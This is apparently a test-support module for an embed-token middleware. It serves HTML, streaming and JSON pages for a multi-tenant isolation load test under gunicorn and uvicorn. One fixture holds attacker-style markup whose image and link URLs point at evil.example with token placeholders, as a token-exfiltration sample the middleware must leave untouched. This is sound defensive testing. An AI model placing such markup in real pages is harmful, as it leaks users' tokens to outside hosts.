"""The apps ``test_isolation_under_load.py`` serves through real servers, and the pages they write.

``make_wsgi_app()`` (for ``gunicorn -k gthread``) and ``make_asgi_app()`` (for ``uvicorn --workers``)
build the same app wrapped in the embed middleware. Secrets come from the environment, made fresh by
the test for each run: ``EMBED_SIGNING_KEY`` (the issuer's key) and ``LOAD_COOKIE_SECRET`` (signs the
tenant cookie). Routes:

* ``/page``: a whole HTML page with named placeholders in every spelling (raw, HTML-escaped,
  percent-encoded), one of them twice, and the bare ``<JWT_TOKEN>``; the app writes each with
  ``embed_placeholder(environ_or_scope, name)``, so each carries that request's nonce (and the nonces
  of concurrent requests must never be mistaken for one another);
* ``/stream``: ``STREAM_CHUNKS`` chunks, each cut inside a placeholder, pausing between chunks so
  that other requests run inside the same worker meanwhile;
* ``/api/me``: JSON, its token in the ``X-Embed-Token`` header (``HeaderDelivery``);
* ``/embed/token``: the middleware's token endpoint (the app never runs); its resolver reads the
  request's headers, trusted here (``token_endpoint_trusts_client_input``) as behind a proxy that sets
  ``X-Tenant-Key`` for authenticated callers only, and the cookie is verified by its lookup;
* ``/healthz``: readiness.

The tenant comes from the request only: an opaque ``X-Tenant-Key`` (mapped by a lookup, as a proxy
would set it) or a signed ``tenant_session`` cookie (verified by a callable lookup). The app finds it
the same way, echoes it in every body and names its worker process in ``X-Served-By``; on even
request numbers it also marks the tenant in the environ (or the scope's state), which
``from_environ`` then reads first. Each token carries the request's ``X-Request-Id`` as ``rid``, so
it can be matched to the exact request that asked.

With ``LOAD_REUSE_WINDOW`` set (seconds), the issuer reuses tokens per window (issue 15) and the
claims leave ``rid`` out: a per-request claim would make every token new. The test then matches
tokens to tenants by ``sub``, ``org`` and ``tid`` only, and checks they repeat within a window.

Under ASGI every body goes out as ``more_body`` messages and an empty last one, as Starlette's
``StreamingResponse`` sends it.
"""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import itertools
import json
import os
import re
import signal
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http import HTTPStatus
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

from werkzeug.http import parse_cookie
from werkzeug.wrappers import Request

from embed_middleware import (
    EmbedASGIMiddleware,
    EmbedWSGIMiddleware,
    HeaderDelivery,
    Tenant,
    TokenIssuer,
    embed_placeholder,
    first_of,
    from_cookie,
    from_environ,
    from_header,
)

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIEnvironment

TENANT_IDS = tuple(f"tenant-{index:02d}" for index in range(50))
RESOURCES = ("sales", "traffic", "users")
#: What the header delivery's token is scoped to.
HEADER_RESOURCE = "live"
#: Every fifth tenant may embed only these: its other placeholders (and the bare one) become empty.
LIMITED_RESOURCES = frozenset({"sales", "traffic", HEADER_RESOURCE})
TENANT_HEADER = "X-Tenant-Key"
COOKIE = "tenant_session"
STREAM_CHUNKS = 50
TOKEN_ENDPOINT = "/embed/token"
#: Request ids as the client writes them: never anything a placeholder could be made of.
RID = re.compile(r"[a-z]+-[0-9]{2}-[0-9]{5}")
HTML = "text/html; charset=utf-8"


def org_of(tenant_id: str) -> str:
    return "org-" + tenant_id.removeprefix("tenant-")


def resources_of(tenant_id: str) -> frozenset[str] | None:
    """None: any resource. Every fifth tenant is limited to ``LIMITED_RESOURCES``."""
    return LIMITED_RESOURCES if int(tenant_id.removeprefix("tenant-")) % 5 == 0 else None


def allowed(tenant_id: str, resource: str | None) -> bool:
    limited = resources_of(tenant_id)
    return limited is None or resource in limited


def tenant_key(tenant_id: str) -> str:
    """The opaque value a proxy puts in ``X-Tenant-Key`` for this tenant (not the tenant id)."""
    return "tk-" + hashlib.sha256(tenant_id.encode()).hexdigest()[:24]


TENANTS: dict[str, Tenant] = {
    tenant_key(t): Tenant(t, locked_claims={"org": org_of(t)}, resources=resources_of(t)) for t in TENANT_IDS
}
_BY_ID = {tenant.id: tenant for tenant in TENANTS.values()}


def sign_cookie(tenant_id: str, secret: str) -> str:
    return tenant_id + "." + hmac.new(secret.encode(), tenant_id.encode(), hashlib.sha256).hexdigest()


def cookie_lookup(secret: str) -> Callable[[str], Tenant | None]:
    def lookup(value: str) -> Tenant | None:
        tenant_id, _, _ = value.rpartition(".")
        if tenant_id in _BY_ID and hmac.compare_digest(value, sign_cookie(tenant_id, secret)):
            return _BY_ID[tenant_id]
        return None

    return lookup


@dataclass(frozen=True)
class Slot:
    """A placeholder as the app writes it, and the resource it names (None for the bare one)."""

    resource: str | None
    text: bytes


Part = bytes | Slot
#: ``resource -> placeholder text``: the app's helper for this request (``embed_placeholder``).
Place = Callable[[str | None], str]


def unsigned(resource: str | None) -> str:
    """The placeholder as a page describes it to the checker, which only needs where slots are."""
    return "<JWT_TOKEN>" if resource is None else f"<JWT_TOKEN:{resource}>"


def _slot(resource: str | None, spelling: str = "raw", place: Place = unsigned) -> Slot:
    raw = place(resource)
    text = {
        "raw": raw,
        "html": raw.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),  # as autoescaping
        "percent": quote(raw, safe=""),  # as url_for / urlencode
    }
    return Slot(resource, text[spelling].encode())


#: What other users wrote into the page (a comment, an avatar URL, a reflected link): placeholder-like
#: text in every spelling, aimed at a server of the attacker's. It must arrive exactly as written.
ATTACKER_HOST = b"evil.example"
ATTACKER_TEXT = (
    b'<p class="comment">nice! &lt;JWT_TOKEN:sales&gt; <img src="https://evil.example/a?t=<JWT_TOKEN>"> '
    b'<a href="https://evil.example/b?t=%3CJWT_TOKEN%3Atraffic%3E">more</a> '
    b'<span data-x="&#60;JWT_TOKEN:users&#62;"></span></p>\n'
)


def page_parts(tenant_id: str, rid: str, place: Place = unsigned) -> list[Part]:
    """``/page``: several named placeholders, ``sales`` twice, and padding that differs per tenant."""
    embed = b'<iframe src="https://charts.example.com/embed?token='
    return [
        f"<!doctype html><html><head><title>{tenant_id}</title></head><body>\n".encode(),
        f'<p id="tenant">{tenant_id}</p><p id="rid">{rid}</p>\n'.encode(),
        ATTACKER_TEXT,
        embed,
        _slot("sales", place=place),
        b'"></iframe>\n' + embed,
        _slot("traffic", "html", place),
        b'"></iframe>\n<a href="https://charts.example.com/embed?token=',
        _slot("users", "percent", place),
        b'">users</a>\n<script>const token = "',
        _slot(None, place=place),
        b'";</script>\n' + embed,
        _slot("sales", place=place),
        b'&amp;again=1"></iframe>\n' + f"<!-- {tenant_id} -->".encode() * (1 + len(rid) % 7),
        b"\n</body></html>\n",
    ]


def stream_parts(tenant_id: str, rid: str, place: Place = unsigned) -> list[Part]:
    """``/stream``: ``STREAM_CHUNKS`` list items, each with one placeholder."""
    parts: list[Part] = [f"<!doctype html><html><body><ul data-tenant='{tenant_id}'>\n".encode()]
    names: tuple[str | None, ...] = (*RESOURCES, None)
    for index in range(STREAM_CHUNKS):
        parts.append(f'<li data-tenant="{tenant_id}" data-rid="{rid}">{index}: '.encode())
        parts.append(_slot(names[index % len(names)], ("raw", "html", "percent")[index % 3], place))
        parts.append(b"</li>\n")
        if index % 10 == 5:
            parts.append(ATTACKER_TEXT)
    parts.append(b"</ul></body></html>\n")
    return parts


def render(parts: list[Part]) -> bytes:
    return b"".join(part.text if isinstance(part, Slot) else part for part in parts)


def stream_chunks(parts: list[Part]) -> list[bytes]:
    """The body in ``STREAM_CHUNKS`` chunks, every cut but the last inside a placeholder."""
    body = render(parts)
    cuts: list[int] = []
    offset = 0
    for part in parts:
        length = len(part.text if isinstance(part, Slot) else part)
        if isinstance(part, Slot) and len(cuts) < STREAM_CHUNKS - 1:
            cuts.append(offset + 1 + len(cuts) % (length - 1))
        offset += length
    bounds = [0, *cuts, len(body)]
    return [body[start:end] for start, end in itertools.pairwise(bounds)]


def me_body(tenant_id: str, rid: str) -> bytes:
    return json.dumps({"tenant": tenant_id, "rid": rid}).encode()


# -- the app ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Served:
    """What the app answers, decided from the request alone."""

    status: int
    content_type: str
    chunks: list[bytes]
    tenant: Tenant | None = None


def serve(
    path: str,
    tenant_header: str | None,
    cookie_header: str | None,
    rid: str,
    verify_cookie: Callable[[str], Tenant | None],
    place: Place,
) -> Served:
    if path == "/healthz":
        return Served(200, "text/plain", [b"ok"])
    tenant = TENANTS.get(tenant_header or "")
    if tenant is None and cookie_header:
        session = parse_cookie(cookie_header).get(COOKIE)
        tenant = verify_cookie(session) if session else None
    if tenant is None or not RID.fullmatch(rid):
        return Served(403, "text/plain", [b"no tenant"])
    marked = tenant if int(rid[-5:]) % 2 == 0 else None
    if path == "/page":
        return Served(200, HTML, [render(page_parts(tenant.id, rid, place))], marked)
    if path == "/stream":
        return Served(200, HTML, stream_chunks(stream_parts(tenant.id, rid, place)), marked)
    if path == "/api/me":
        return Served(200, "application/json", [me_body(tenant.id, rid)])
    return Served(404, "text/plain", [b"not found"])


def _claims(tenant: Tenant, resource: str | None, request: Request) -> dict[str, Any]:
    claims: dict[str, Any] = {"sub": tenant.id, "rid": request.headers.get("X-Request-Id")}
    if resource is not None:
        claims["resource"] = resource
    return claims


def _shared_claims(tenant: Tenant, resource: str | None, request: Request) -> dict[str, Any]:
    """No per-request claim: what reuse needs (``sub`` and ``org`` still name the tenant)."""
    claims = _claims(tenant, resource, request)
    del claims["rid"]
    return claims


def _wants_header(request: Request, status: int, headers: Any) -> bool:
    return request.path == "/api/me"


def middleware_options() -> dict[str, Any]:
    secret = os.environ["LOAD_COOKIE_SECRET"]
    resolver = first_of(
        from_environ(),
        from_header(TENANT_HEADER, lookup=TENANTS),
        from_cookie(COOKIE, lookup=cookie_lookup(secret)),
    )
    # The key from EMBED_SIGNING_KEY; the pages' resources and the bare placeholder are allowed.
    window = os.environ.get("LOAD_REUSE_WINDOW")
    issuer = TokenIssuer(
        ttl=600,
        claims=_shared_claims if window else _claims,
        resources=[*RESOURCES, HEADER_RESOURCE],
        allow_unscoped=True,
        reuse=int(window) if window else None,
    )
    return {
        "issuer": issuer,
        "resolver": resolver,
        "header": HeaderDelivery(when=_wants_header, resource=HEADER_RESOURCE),
        "token_endpoint": TOKEN_ENDPOINT,
        "token_endpoint_trusts_client_input": True,  # X-Tenant-Key: set by the proxy (see above)
    }


#: Seconds a streaming WSGI response sleeps between chunks (the GIL goes to other threads' requests).
WSGI_PAUSE = 0.0002


def make_wsgi_app() -> EmbedWSGIMiddleware:
    verify_cookie = cookie_lookup(os.environ["LOAD_COOKIE_SECRET"])

    def app(environ: WSGIEnvironment, start_response: StartResponse) -> Iterator[bytes]:
        served = serve(
            environ.get("PATH_INFO", ""),
            environ.get("HTTP_X_TENANT_KEY"),
            environ.get("HTTP_COOKIE"),
            environ.get("HTTP_X_REQUEST_ID", ""),
            verify_cookie,
            lambda resource: embed_placeholder(environ, resource),
        )
        if served.tenant is not None:
            environ["embed.tenant"] = served.tenant
        headers = [("Content-Type", served.content_type), ("X-Served-By", str(os.getpid()))]
        if len(served.chunks) == 1:
            headers.append(("Content-Length", str(len(served.chunks[0]))))
        start_response(f"{served.status} {HTTPStatus(served.status).phrase}", headers)
        for index, chunk in enumerate(served.chunks):
            if index:
                time.sleep(WSGI_PAUSE)
            yield chunk

    return EmbedWSGIMiddleware(app, **middleware_options())


def make_asgi_app() -> EmbedASGIMiddleware:
    verify_cookie = cookie_lookup(os.environ["LOAD_COOKIE_SECRET"])

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        assert scope["type"] == "http", "run with --lifespan off"
        headers = {name.decode("latin-1"): value.decode("latin-1") for name, value in scope["headers"]}
        served = serve(
            scope["path"],
            headers.get("x-tenant-key"),
            headers.get("cookie"),
            headers.get("x-request-id", ""),
            verify_cookie,
            lambda resource: embed_placeholder(scope, resource),
        )
        if served.tenant is not None:
            scope.setdefault("state", {})["embed_tenant"] = served.tenant  # Starlette's request.state
        raw = [(b"content-type", served.content_type.encode()), (b"x-served-by", str(os.getpid()).encode())]
        if len(served.chunks) == 1:
            raw.append((b"content-length", str(len(served.chunks[0])).encode()))
        await send({"type": "http.response.start", "status": served.status, "headers": raw})
        for index, chunk in enumerate(served.chunks):
            if index:  # let other requests on this worker's loop run between chunks
                await asyncio.sleep(0.0005 if index % 10 == 0 else 0)
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
        await send({"type": "http.response.body", "body": b"", "more_body": False})

    return EmbedASGIMiddleware(app, **middleware_options())


# -- how the test serves them ----------------------------------------------------------------------

#: name -> (module run with ``python -m``, its arguments, the signal that stops it promptly: gunicorn's
#: SIGTERM waits for keep-alive connections, its SIGINT does not).
SERVERS = {
    "gunicorn-gthread": (
        "gunicorn",
        "-k gthread --threads 8 -w 2 --bind 127.0.0.1:{port} --keep-alive 30 --log-level warning",
        signal.SIGINT,
    ),
    "uvicorn-workers": (
        "uvicorn",
        "--workers 2 --host 127.0.0.1 --port {port} --lifespan off --timeout-keep-alive 30"
        " --log-level warning --no-access-log",
        signal.SIGTERM,
    ),
}
APPS = {
    "gunicorn": ["tests.support.load_apps:make_wsgi_app()"],
    "uvicorn": ["tests.support.load_apps:make_asgi_app", "--factory"],
}


def server_command(name: str, port: int) -> list[str]:
    module, arguments, _ = SERVERS[name]
    command = [sys.executable, "-m", module, *arguments.format(port=port).split(), *APPS[module]]
    if module == "gunicorn":  # gunicorn 25+ opens a control socket in $HOME unless told not to
        import gunicorn.config  # type: ignore[import-untyped]

        if "control_socket_disable" in {setting.name for setting in gunicorn.config.KNOWN_SETTINGS}:
            command.append("--no-control-socket")
    return command
